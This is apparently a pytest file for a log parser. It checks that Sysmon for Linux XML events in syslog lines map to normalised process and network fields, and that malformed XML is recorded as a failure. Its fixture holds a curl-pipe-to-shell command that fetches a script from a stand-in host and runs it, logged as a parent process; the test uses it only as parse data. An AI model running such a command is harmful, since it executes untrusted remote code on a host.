"""``sysmon-linux``: Sysmon for Linux XML inside syslog lines, picked by ``auto`` before linux-auth.

The lines are written here after the format Sysmon for Linux documents.
"""

from __future__ import annotations

from pathlib import Path

from endpoint_support import failed, run

EVENT = (
    '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
    "<EventID>{eid}</EventID><Version>5</Version><Level>4</Level><Task>{eid}</Task><Opcode>0</Opcode>"
    '<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2024-05-02T08:15:30.123456789Z"/>'
    '<EventRecordID>{rid}</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/>'
    '<Channel>Linux-Sysmon/Operational</Channel><Computer>build-7</Computer><Security UserId="0"/></System>'
    "<EventData>{data}</EventData></Event>"
)


def line(eid: int, rid: int, **data: str) -> str:
    fields = "".join(f'<Data Name="{k}">{v}</Data>' for k, v in data.items())
    xml = EVENT.replace("{eid}", str(eid)).replace("{rid}", str(rid)).replace("{data}", fields)
    return f"May  2 08:15:30 build-7 sysmon: {xml}"


def test_process_and_network_events_map_like_windows_sysmon(tmp_path: Path) -> None:
    log = tmp_path / "syslog"
    log.write_text(
        "\n".join(
            [
                "May  2 08:15:29 build-7 sshd[901]: Accepted publickey for deploy from 192.0.2.10 port 50522 ssh2",
                line(
                    1,
                    41,
                    ProcessGuid="{6f2c1b6a-0a4b-6633-b1d1-7a5e2b550000}",
                    ProcessId="5326",
                    Image="/usr/bin/curl",
                    CommandLine="curl -fsSL http://198.51.100.7/x.sh",
                    CurrentDirectory="/tmp",
                    User="deploy",
                    ParentProcessId="5300",
                    ParentImage="/usr/bin/bash",
                    ParentCommandLine="bash -c &quot;curl -fsSL http://198.51.100.7/x.sh | sh&quot;",
                ),
                line(
                    3,
                    42,
                    ProcessId="5326",
                    Image="/usr/bin/curl",
                    User="deploy",
                    Protocol="tcp",
                    Initiated="true",
                    SourceIsIpv6="false",
                    SourceIp="10.0.3.15",
                    SourcePort="41872",
                    DestinationIp="198.51.100.7",
                    DestinationPort="80",
                ),
            ]
        )
        + "\n"
    )
    events, stats = run([log])
    assert stats.failures == 0
    auth, process, network = events
    assert auth["event"]["dataset"] != "sysmon_linux.log"  # the sshd line still goes to linux-auth
    assert process["event"]["dataset"] == "sysmon_linux.log" and network["event"]["dataset"] == "sysmon_linux.log"
    assert process["@timestamp"] == "2024-05-02T08:15:30.123456Z"
    assert process["event"]["category"] == ["process"] and process["event"]["type"] == ["start"]
    assert process["process"]["executable"] == "/usr/bin/curl" and process["process"]["name"] == "curl"
    assert process["process"]["parent"]["command_line"] == 'bash -c "curl -fsSL http://198.51.100.7/x.sh | sh"'
    assert process["process"]["pid"] == 5326 and process["process"]["parent"]["pid"] == 5300
    assert process["user"] == {"name": "deploy"} and process["host"]["name"] == "build-7"
    assert network["destination"] == {"ip": "198.51.100.7", "port": 80}
    assert network["network"] == {"transport": "tcp", "direction": "egress", "type": "ipv4"}


def test_broken_event_xml_is_kept_as_a_failure(tmp_path: Path) -> None:
    log = tmp_path / "syslog"
    log.write_text(line(1, 7, Image="/bin/sh").replace("</EventData>", "") + "\n")
    events, stats = run([log], fmt="sysmon-linux")
    assert len(events) == 1 and failed(events[0]) and stats.failures == 1
    assert "sysmon" in events[0]["event"]["original"]
